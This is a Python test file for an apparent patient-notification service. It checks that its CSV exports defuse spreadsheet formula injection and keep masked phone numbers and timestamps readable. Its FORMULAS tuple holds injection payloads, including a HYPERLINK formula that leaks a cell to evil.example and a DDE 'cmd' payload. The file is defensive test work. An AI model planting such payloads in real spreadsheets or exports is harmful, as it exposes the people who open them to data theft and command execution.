"""Every CSV export is safe to open in a spreadsheet: formula payloads that came in through real
paths (patient names and providers imported from CSV files, a signed status callback's
ErrorMessage) come out as text, with a leading ``'``; masked phones and ISO times read as they are.

Exports: ``notifier deliveries --format csv``, ``notifier notice affected --format csv`` and the
console's delivery-log CSV, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import httpx

from notifier.spreadsheets import FORMULA_STARTS
from tests.support.actors import OPERATOR
from tests.support.channels import FakeChannel
from tests.support.patients import HEADER
from tests.support.processes import run_notifier, service_env
from tests.support.web import PASSWORD, Web, broadcast_sms, sign_in

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
)
APPOINTMENT_COLUMNS = (
    "external_id,patient_external_id,location,starts_at,duration_minutes,provider,status"
)
MASKED_PHONE = re.compile(r"\+\d\*+\d{4}")


def import_formula_patients(web: Web) -> None:
    """Four patients whose first names are formulas, each with an appointment in the closure."""
    patients = io.StringIO()
    writer = csv.writer(patients)
    appointments = io.StringIO()
    booked = csv.writer(appointments)
    booked.writerow(APPOINTMENT_COLUMNS.split(","))
    for i, name in enumerate(FORMULAS):
        writer.writerow(
            [f"f{i}", name, "Formula", f"540-555-014{i}", "", "en", "cova", "yes", "no"]
        )
        booked.writerow([f"fa{i}", f"f{i}", "cova", "2025-02-20 10:30", 30, name, "scheduled"])
    report = web.app.patients.import_patients(
        OPERATOR, io.StringIO(f"{HEADER}\n{patients.getvalue()}")
    )
    assert report.errors == [] and report.created == len(FORMULAS)
    report = web.app.patients.import_appointments(OPERATOR, io.StringIO(appointments.getvalue()))
    assert report.errors == [] and report.created == len(FORMULAS)


def report_formula_failure(web: Web, notice_id: int) -> None:
    """A signed status callback whose ErrorMessage is a formula."""
    row = next(d for d in web.app.deliveries.log(OPERATOR, notice_id) if d.provider_id)
    answer = web.signed_post(
        "/webhooks/twilio/status",
        {
            "MessageSid": row.provider_id or "",
            "MessageStatus": "undelivered",
            "ErrorCode": "30003",
            "ErrorMessage": FORMULAS[0],
        },
    )
    assert answer.status_code == 200
    assert web.settle() == {"applied": 1}


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_spreadsheet_safe(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or MASKED_PHONE.fullmatch(cell), (
                column,
                cell,
            )


def test_every_csv_export_neutralises_formulas_and_keeps_phones_and_times_readable(
    web: Web, tmp_path: Path, database_url: str
) -> None:
    import_formula_patients(web)
    web.app.accounts.create_user("manager@cova.example", "manager", PASSWORD)
    notice_id = broadcast_sms(web.app, FakeChannel())
    report_formula_failure(web, notice_id)
    env = service_env(tmp_path, database_url)

    deliveries = cells(
        run_notifier(env, "deliveries", "--notice", str(notice_id), "--format", "csv").stdout
    )
    affected = cells(
        run_notifier(env, "notice", "affected", str(notice_id), "--format", "csv").stdout
    )
    console: httpx.Client = sign_in(web, "manager@cova.example")
    try:
        answer = console.get(f"/console/notices/{notice_id}/deliveries.csv")
    finally:
        console.close()
    assert answer.status_code == 200
    exported = cells(answer.text)

    for log in (deliveries, exported):
        assert_spreadsheet_safe(log)
        failed = [r for r in log if r["state"] == "undelivered"]
        assert [(r["error_code"], r["error"]) for r in failed] == [("30003", "'" + FORMULAS[0])]
        assert all(MASKED_PHONE.fullmatch(r["address"]) for r in log)
        assert all(datetime.fromisoformat(r["updated_at"]) for r in log)
    assert_spreadsheet_safe(affected)
    assert sorted(r["first_name"] for r in affected if r["last_name"] == "Formula") == sorted(
        "'" + f for f in FORMULAS
    )
    assert {r["provider"] for r in affected if r["last_name"] == "Formula"} == {
        "'" + f for f in FORMULAS
    }
    assert all(datetime.fromisoformat(r["starts"]) for r in affected)
